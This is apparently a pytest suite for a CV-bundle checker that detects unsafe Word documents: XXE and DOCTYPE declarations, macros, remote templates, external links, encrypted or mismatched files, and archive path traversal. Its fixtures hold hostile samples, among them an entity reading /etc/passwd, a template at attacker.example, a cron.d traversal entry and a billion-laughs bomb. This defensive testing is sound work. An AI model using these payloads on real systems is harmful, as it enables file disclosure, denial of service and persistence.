"""Documents (spec §7): what the bytes really are, and whether a Word file is safe to keep.

Findings about a document belong to the candidate that references it: they reject that
candidate only (spec §8).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from cvbridge import open_bundle
from cvbridge.bundle._documents import sniff
from cvbridge.bundle._report import Report
from tests.bundles import (
    DOCM_MAIN_TYPE,
    RawMember,
    bundle_files,
    candidate,
    check,
    codes,
    content_types,
    document_xml,
    docx,
    docx_parts,
    encrypted_office_file,
    legacy_doc,
    limits,
    manifest,
    ole_file,
    paragraphs,
    raw_zip,
    relationships,
    word_part,
    write,
    zip_bytes,
)

CANDIDATE_FILE = "candidats/dupont.txt"
CV = "cvs/dupont.docx"


def check_cv(tmp_path: Path, data: bytes, cv_file: str = CV) -> Report:
    files = bundle_files(cv_file=cv_file)
    del files[CV]
    return check(tmp_path, files | {cv_file: data})


def summary(report: Report) -> list[tuple[str, str | None, str | None]]:
    return [(f.code, f.member, f.candidate) for f in report.findings]


def with_doctype(xml: bytes, declaration: bytes) -> bytes:
    """Insert a declaration after the XML declaration, before the root element."""
    head, _, rest = xml.partition(b"?>")
    return head + b"?>" + declaration + rest


# -- sniffing ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (docx(), "docx"),
        (zip_bytes({"a.txt": "x"}), "zip"),
        (zip_bytes({"mimetype": "application/vnd.oasis.opendocument.text"}, method=0), "odt"),
        (legacy_doc(), "ole"),
        (b"%PDF-1.7\n", "pdf"),
        (b"{\\rtf1\\ansi}", "rtf"),
        (b"  <html><body>CV</body></html>", "html"),
        (b"MZ\x90\x00", "unknown"),
        (b"", "unknown"),
    ],
)
def test_sniff(data: bytes, kind: str) -> None:
    assert sniff(data) == kind


# -- a good CV --------------------------------------------------------------------------


def test_plain_docx_is_accepted_with_its_text(tmp_path: Path) -> None:
    path = write(tmp_path, zip_bytes(bundle_files()))
    with open_bundle(path) as opened:
        assert opened.report.findings == []
        [person] = opened.bundle.candidates
        assert person.accepted
        assert person.cv is not None
        assert (person.cv.kind, person.cv.role, person.cv.text) == (
            "docx", "cv", "Marie Dupont\nComptable")


def test_external_hyperlink_is_allowed(tmp_path: Path) -> None:
    cv = docx(document_rels=[("rId9", "hyperlink", "https://www.linkedin.com/in/x",
                              "External")])
    assert check_cv(tmp_path, cv).findings == []


def test_doctype_text_in_the_body_is_not_a_declaration(tmp_path: Path) -> None:
    cv = docx(paragraphs("Compétences : &lt;!DOCTYPE html&gt;, XML, &lt;!ENTITY&gt;"))
    assert check_cv(tmp_path, cv).findings == []


# -- DOCTYPE and entities ---------------------------------------------------------------


@pytest.mark.parametrize(
    "declaration",
    [
        b'<!DOCTYPE w:document [<!ENTITY lol "lol">]>',
        b'<!DOCTYPE w:document SYSTEM "http://attacker.example/x.dtd">',
        b'<!ENTITY xxe SYSTEM "file:///etc/passwd">',
        b"<!doctype w:document>",
    ],
)
def test_doctype_or_entity_in_the_main_part(tmp_path: Path, declaration: bytes) -> None:
    parts = docx_parts()
    parts["word/document.xml"] = with_doctype(parts["word/document.xml"], declaration)
    report = check_cv(tmp_path, zip_bytes(parts))
    assert summary(report) == [("DOC-DTD", f"{CV}!word/document.xml", CANDIDATE_FILE)]
    assert report.findings[0].message == "XML part 'word/document.xml' declares a DOCTYPE or entity"
    assert report.rejected_candidates == [CANDIDATE_FILE]


def test_doctype_in_a_rels_part(tmp_path: Path) -> None:
    parts = docx_parts()
    parts["_rels/.rels"] = with_doctype(parts["_rels/.rels"], b'<!DOCTYPE r [<!ENTITY a "b">]>')
    assert summary(check_cv(tmp_path, zip_bytes(parts))) == [
        ("DOC-DTD", f"{CV}!_rels/.rels", CANDIDATE_FILE)]


def test_doctype_in_a_header(tmp_path: Path) -> None:
    header = with_doctype(word_part("hdr", paragraphs("En-tête")),
                          b'<!DOCTYPE w:hdr [<!ENTITY a SYSTEM "file:///etc/passwd">]>')
    cv = docx(document_rels=[("rId7", "header", "header1.xml")],
              extra={"word/header1.xml": header})
    assert summary(check_cv(tmp_path, cv)) == [
        ("DOC-DTD", f"{CV}!word/header1.xml", CANDIDATE_FILE)]


@pytest.mark.parametrize("target", ["header1.xml", "./header1.xml", "../word/header1.xml",
                                    "/word/header1.xml", "sub/../header1.xml"])
def test_relationship_targets_resolve_as_paths(tmp_path: Path, target: str) -> None:
    cv = docx(document_rels=[("rId7", "header", target)],
              extra={"word/header1.xml": word_part("hdr", paragraphs("En-tête"))})
    with open_bundle(write(tmp_path, zip_bytes(bundle_files(cv=cv)))) as opened:
        assert opened.report.findings == []
        cv_info = opened.bundle.candidates[0].cv
        assert cv_info is not None
        assert cv_info.text == "Marie Dupont\nComptable\nEn-tête"


def test_doctype_after_a_long_prolog(tmp_path: Path) -> None:
    parts = docx_parts()
    prolog = b"<!--" + b" padding " * 1000 + b"-->" + b"<!DOCTYPE w:document>"
    parts["word/document.xml"] = with_doctype(parts["word/document.xml"], prolog)
    assert codes(check_cv(tmp_path, zip_bytes(parts))) == {"DOC-DTD"}


def test_doctype_in_a_utf16_part(tmp_path: Path) -> None:
    xml = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]>'
           '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
    cv = docx(extra={"customXml/item1.xml": xml.encode("utf-16")})
    assert summary(check_cv(tmp_path, cv)) == [
        ("DOC-DTD", f"{CV}!customXml/item1.xml", CANDIDATE_FILE)]


def test_doctype_deep_in_a_utf16_part(tmp_path: Path) -> None:
    # Past the first 4096 bytes, in UTF-16: the prolog is decoded before it is searched.
    xml = ('<?xml version="1.0" encoding="UTF-16"?><!--' + " padding " * 600 + "-->"
           '<!DOCTYPE x [<!ENTITY a "b">]>'
           '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
    cv = docx(extra={"customXml/item1.xml": xml.encode("utf-16")})
    assert summary(check_cv(tmp_path, cv)) == [
        ("DOC-DTD", f"{CV}!customXml/item1.xml", CANDIDATE_FILE)]


# -- macros, relationships, imports, objects --------------------------------------------


def test_macro_enabled_content_type(tmp_path: Path) -> None:
    report = check_cv(tmp_path, docx(main_type=DOCM_MAIN_TYPE))
    assert summary(report) == [("DOC-MACRO", f"{CV}![Content_Types].xml", CANDIDATE_FILE)]
    assert report.findings[0].message == (
        f"this document contains macros (content type {DOCM_MAIN_TYPE})")


def test_vba_project_part(tmp_path: Path) -> None:
    report = check_cv(tmp_path, docx(extra={"word/vbaProject.bin": b"\xcc" * 64}))
    assert summary(report) == [("DOC-MACRO", f"{CV}!word/vbaProject.bin", CANDIDATE_FILE)]


def test_remote_template_is_an_external_relationship(tmp_path: Path) -> None:
    cv = docx(extra={
        "word/settings.xml": word_part("settings", ""),
        "word/_rels/settings.xml.rels": relationships(
            ("rId1", "attachedTemplate", "http://attacker.example/t.dotm", "External"))})
    report = check_cv(tmp_path, cv)
    assert summary(report) == [
        ("DOC-EXTERNAL-REL", f"{CV}!word/_rels/settings.xml.rels", CANDIDATE_FILE)]
    assert report.findings[0].message == (
        "part 'word/_rels/settings.xml.rels' refers to remote attachedTemplate "
        "'http://attacker.example/t.dotm'")


@pytest.mark.parametrize("kind", ["image", "oleObject", "frame", "subDocument"])
def test_other_external_relationships(tmp_path: Path, kind: str) -> None:
    cv = docx(document_rels=[("rId9", kind, "\\\\attacker\\share\\x", "External")])
    assert codes(check_cv(tmp_path, cv)) == {"DOC-EXTERNAL-REL"}


@pytest.mark.parametrize("target", [
    "file:///C:\\Users\\marie\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm",
    "C:\\Users\\marie\\Documents\\Modèle CV.dotx",
    "../Modeles/cv.dotx",
])
def test_local_template_is_a_warning(tmp_path: Path, target: str) -> None:
    """What an ordinary Word installation writes: reported, never followed, not refused."""
    cv = docx(extra={
        "word/settings.xml": word_part("settings", ""),
        "word/_rels/settings.xml.rels": relationships(
            ("rId1", "attachedTemplate", target, "External"))})
    report = check_cv(tmp_path, cv)
    assert [(f.code, f.severity, f.member, f.message) for f in report.findings] == [
        ("DOC-EXTERNAL-LOCAL", "warning", f"{CV}!word/_rels/settings.xml.rels",
         f"part 'word/_rels/settings.xml.rels' refers to local attachedTemplate '{target}' "
         "(not followed)")]
    assert report.valid


def test_local_linked_image_and_mail_merge_source_are_warnings(tmp_path: Path) -> None:
    cv = docx(document_rels=[("rId9", "image", "photos/identite.jpg", "External")],
              extra={"word/settings.xml": word_part("settings", ""),
                     "word/_rels/settings.xml.rels": relationships(
                         ("rId1", "mailMergeSource", "file:///D:\\Fichiers\\contacts.xlsx",
                          "External"))})
    report = check_cv(tmp_path, cv)
    assert sorted(f.code for f in report.findings) == ["DOC-EXTERNAL-LOCAL"] * 2
    assert report.valid


def test_include_field_with_a_remote_target(tmp_path: Path) -> None:
    body = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> '
            'INCLUDEPICTURE "http://192.0.2.15/pixel.png" \\d </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    report = check_cv(tmp_path, docx(body))
    assert [(f.code, f.member, f.message) for f in report.findings] == [
        ("DOC-EXTERNAL-REL", f"{CV}!word/document.xml",
         "part 'word/document.xml' refers to remote INCLUDEPICTURE field "
         "'http://192.0.2.15/pixel.png'")]


def test_alt_chunk(tmp_path: Path) -> None:
    cv = docx(document_rels=[("rId9", "aFChunk", "afchunk.mht")],
              extra={"word/afchunk.mht": b"MIME-Version: 1.0\r\n"})
    report = check_cv(tmp_path, cv)
    assert summary(report) == [("DOC-ALTCHUNK", f"{CV}!word/afchunk.mht", CANDIDATE_FILE)]
    assert report.findings[0].message == "the document imports 'word/afchunk.mht' as an altChunk"


def test_embedded_ole_object_is_a_warning(tmp_path: Path) -> None:
    cv = docx(document_rels=[("rId9", "oleObject", "embeddings/oleObject1.bin")],
              extra={"word/embeddings/oleObject1.bin": ole_file({"\x01Ole10Native": b"x"})})
    report = check_cv(tmp_path, cv)
    assert [(f.code, f.severity, f.member) for f in report.findings] == [
        ("DOC-EMBEDDED-OBJECT", "warning", f"{CV}!word/embeddings/oleObject1.bin")]
    assert report.valid
    assert report.rejected_candidates == []


# -- what the bytes really are ----------------------------------------------------------


def test_password_protected_docx(tmp_path: Path) -> None:
    report = check_cv(tmp_path, encrypted_office_file())
    assert summary(report) == [("DOC-ENCRYPTED", CV, CANDIDATE_FILE)]
    assert report.findings[0].message == "this document is password-protected"


def test_password_protected_doc_container(tmp_path: Path) -> None:
    report = check_cv(tmp_path, encrypted_office_file(), "cvs/dupont.doc")
    assert summary(report) == [("DOC-ENCRYPTED", "cvs/dupont.doc", CANDIDATE_FILE)]


def test_doc_with_its_encrypted_flag(tmp_path: Path) -> None:
    report = check_cv(tmp_path, legacy_doc(encrypted=True), "cvs/dupont.doc")
    assert summary(report) == [("DOC-ENCRYPTED", "cvs/dupont.doc", CANDIDATE_FILE)]


@pytest.mark.parametrize(
    ("cv_file", "data", "message"),
    [
        ("cvs/dupont.doc", b"{\\rtf1\\ansi\\deff0 Marie Dupont}",
         "this .doc file is really an RTF document"),
        ("cvs/dupont.doc", b"<html><body>Marie Dupont</body></html>",
         "this .doc file is really an HTML or XML file"),
        ("cvs/dupont.docx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
         "this .docx file is really a PDF document"),
        ("cvs/dupont.docx", legacy_doc(), "this .docx file is really a legacy Word .doc document"),
        ("cvs/dupont.doc", ole_file({"Workbook": b"\x09\x08"}),
         "this .doc file is really an OLE compound file that is not a Word document"),
        ("cvs/dupont.doc", docx(), "this .doc file is really a Word .docx document"),
    ],
)
def test_content_not_matching_the_extension(tmp_path: Path, cv_file: str, data: bytes,
                                            message: str) -> None:
    report = check_cv(tmp_path, data, cv_file)
    assert [(f.code, f.member, f.message) for f in report.findings] == [
        ("DOC-TYPE-MISMATCH", cv_file, message)]


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("cvs/lettre.pdf", b"%PDF-1.4\n", []),
        ("cvs/lettre.rtf", b"{\\rtf1 Madame, Monsieur}", []),
        ("cvs/lettre.odt",
         zip_bytes({"mimetype": "application/vnd.oasis.opendocument.text"}, method=0), []),
        ("cvs/lettre.pdf", b"\x89PNG\r\n\x1a\n", ["DOC-TYPE-MISMATCH"]),
        ("cvs/lettre.odt", zip_bytes({"content.xml": "<x/>"}), ["DOC-TYPE-MISMATCH"]),
        ("cvs/lettre.docx", docx(extra={"word/vbaProject.bin": b"\0"}), ["DOC-MACRO"]),
    ],
)
def test_attachments(tmp_path: Path, name: str, data: bytes, expected: list[str]) -> None:
    report = check(tmp_path, bundle_files(attachment=name) | {name: data})
    assert [f.code for f in report.findings] == expected
    assert report.rejected_candidates == ([CANDIDATE_FILE] if expected else [])


# -- corrupt and empty ------------------------------------------------------------------


def test_broken_xml(tmp_path: Path) -> None:
    cv = docx(extra={"word/document.xml": document_xml(paragraphs("x"))[:-20]})
    report = check_cv(tmp_path, cv)
    assert summary(report) == [("DOC-CORRUPT", f"{CV}!word/document.xml", CANDIDATE_FILE)]
    assert report.findings[0].message.startswith(
        "this document is corrupt (word/document.xml is not well-formed XML: ")


def test_zip_without_package_parts(tmp_path: Path) -> None:
    report = check_cv(tmp_path, zip_bytes({"word/document.xml": document_xml("")}))
    assert [(f.code, f.member, f.message) for f in report.findings] == [
        ("DOC-CORRUPT", CV,
         "this document is corrupt (it has no [Content_Types].xml or _rels/.rels)")]


def test_package_without_main_part(tmp_path: Path) -> None:
    cv = docx(extra={"_rels/.rels": relationships(("rId1", "officeDocument", "word/gone.xml"))})
    report = check_cv(tmp_path, cv)
    assert [f.message for f in report.findings] == [
        "this document is corrupt (it has no main document part)"]


def test_empty_docx_has_no_text(tmp_path: Path) -> None:
    path = write(tmp_path, zip_bytes(bundle_files(cv=docx(""))))
    with open_bundle(path) as opened:
        assert [(f.code, f.severity, f.member) for f in opened.report.findings] == [
            ("DOC-NO-TEXT", "warning", CV)]
        [person] = opened.bundle.candidates
        assert person.accepted
        assert person.cv is not None
        assert person.cv.text is None


def test_doc_whose_text_cannot_be_followed(tmp_path: Path) -> None:
    """A FIB too short to hold its story lengths: the CV is kept, its text failed (not
    DOC-NO-TEXT: the text may be there)."""
    report = check_cv(tmp_path, legacy_doc(), "cvs/dupont.doc")
    assert [(f.code, f.severity, f.message) for f in report.findings] == [
        ("DOC-TEXT-FAILED", "warning",
         "the text of this CV could not be read (the FIB has 0 story counts, fewer than 11); "
         "it is stored without searchable text")]
    assert report.valid


def test_hidden_text_is_noted(tmp_path: Path) -> None:
    body = ("<w:p><w:r><w:t>Comptable</w:t></w:r><w:r><w:rPr><w:vanish/></w:rPr>"
            "<w:t>python java</w:t></w:r></w:p>")
    path = write(tmp_path, zip_bytes(bundle_files(cv=docx(body))))
    with open_bundle(path) as opened:
        assert [(f.code, f.member, f.message) for f in opened.report.findings] == [
            ("DOC-HIDDEN-TEXT", CV, "hidden text of this CV is left out of its search text")]
        [person] = opened.bundle.candidates
        assert person.cv is not None and person.cv.text == "Comptable"


def test_doc_without_a_word_header(tmp_path: Path) -> None:
    report = check_cv(tmp_path, legacy_doc(magic=0x1234), "cvs/dupont.doc")
    assert [(f.code, f.message) for f in report.findings] == [
        ("DOC-CORRUPT", "this document is corrupt (the WordDocument stream has no Word header)")]


def test_truncated_ole_container(tmp_path: Path) -> None:
    report = check_cv(tmp_path, legacy_doc()[:700], "cvs/dupont.doc")
    assert [f.code for f in report.findings] == ["DOC-CORRUPT"]


# -- the archive rules inside a .docx ---------------------------------------------------


def test_archive_rules_apply_inside_a_docx(tmp_path: Path) -> None:
    members = [RawMember(name, data) for name, data in docx_parts().items()]
    members.append(RawMember("../../../etc/cron.d/x", b"* * * * * root sh"))
    report = check_cv(tmp_path, raw_zip(members))
    assert [(f.code, f.member, f.candidate, f.message) for f in report.findings] == [
        ("PATH-TRAVERSAL", f"{CV}!../../../etc/cron.d/x", CANDIDATE_FILE,
         "member path '../../../etc/cron.d/x' contains '..'")]


def test_crc_error_inside_a_docx(tmp_path: Path) -> None:
    members = [RawMember(name, data) for name, data in docx_parts().items()]
    members[2].crc = 0x12345678
    cv = raw_zip(members)
    data_at = cv.find(b"word/document.xml") + len("word/document.xml")  # no extra field
    report = check_cv(tmp_path, cv)
    assert [(f.code, f.member, f.message) for f in report.findings] == [
        ("ZIP-CRC", f"{CV}!word/document.xml",
         f"the content of this member (data at offset {data_at}) is damaged (CRC-32 mismatch)")]


@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml"])
def test_crc_error_past_the_prolog_of_a_docx_part(tmp_path: Path, part: str) -> None:
    """Parts past the 4 KiB a DOCTYPE check reads: one the text reads (document.xml), one
    no check reads (styles.xml, CRC-checked by verify_unread). The damage is reported once,
    where it is, whichever pass inflates the part first."""
    words = " ".join(f"mot{i}" for i in range(2000))
    parts = docx_parts(paragraphs(words),
                       extra={"word/styles.xml": word_part("styles", "<w:docDefaults/>" * 400)})
    assert all(len(parts[name]) > 4096 for name in ("word/document.xml", "word/styles.xml"))
    members = [RawMember(name, data) for name, data in parts.items()]
    [damaged] = [member for member in members if member.name == part]
    damaged.crc = 0x12345678
    report = check_cv(tmp_path, raw_zip(members))
    assert [(f.code, f.member) for f in report.findings] == [("ZIP-CRC", f"{CV}!{part}")]


def test_docx_with_too_many_parts(tmp_path: Path) -> None:
    report = check(tmp_path, bundle_files(), limits=limits(document_part_count=2))
    assert [(f.code, f.member, f.candidate, f.message) for f in report.findings] == [
        ("LIMIT-MEMBER-COUNT", CV, CANDIDATE_FILE, "the archive has more than 2 entries; the limit "
                                                   "document_part_count is 2")]


def test_docx_cut_short_is_corrupt(tmp_path: Path) -> None:
    """The bundle arrived whole (its CRCs pass): the document itself is broken, so the fix
    is to save it again, not to upload again (ZIP-TRUNCATED's hint)."""
    cv = docx()
    report = check_cv(tmp_path, cv[: len(cv) // 2])
    assert [(f.code, f.member, f.candidate, f.message) for f in report.findings] == [
        ("DOC-CORRUPT", CV, CANDIDATE_FILE,
         "this document is corrupt (not a readable ZIP package: the archive is cut short: "
         f"the file ends at byte {len(cv) // 2} with no end-of-central-directory record in "
         f"its last {len(cv) // 2} bytes: the central directory and the end record (at least "
         "22 bytes) are missing)")]


# -- the scope of errors ----------------------------------------------------------------


def test_document_error_rejects_only_its_candidate(tmp_path: Path) -> None:
    files = bundle_files(cv=docx(main_type=DOCM_MAIN_TYPE)) | {
        "manifest.txt": manifest(candidate_count="2"),
        "candidats/martin.txt": candidate(external_id="C-002", last_name="Martin",
                                          cv_file="cvs/martin.docx"),
        "cvs/martin.docx": docx(),
    }
    with open_bundle(write(tmp_path, zip_bytes(files))) as opened:
        report = opened.report
        assert [(f.code, f.candidate) for f in report.findings] == [
            ("DOC-MACRO", CANDIDATE_FILE)]
        assert report.rejected_candidates == [CANDIDATE_FILE]
        assert report.bundle_errors == []
        assert {c.member: c.accepted for c in opened.bundle.candidates} == {
            "candidats/martin.txt": True, CANDIDATE_FILE: False}
        assert [c.member for c in opened.bundle.accepted_candidates] == ["candidats/martin.txt"]


def test_content_types_part_is_parsed_safely(tmp_path: Path) -> None:
    """A billion-laughs [Content_Types].xml is refused as DOC-DTD, never expanded."""
    laughs = b"".join(b'<!ENTITY l%d "&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;">'
                      % (i + 1, *([i] * 10)) for i in range(9))
    bomb = with_doctype(content_types(), b'<!DOCTYPE Types [<!ENTITY l0 "lol">' + laughs + b"]>")
    report = check_cv(tmp_path, docx(extra={"[Content_Types].xml": bomb}))
    assert summary(report) == [("DOC-DTD", f"{CV}![Content_Types].xml", CANDIDATE_FILE)]
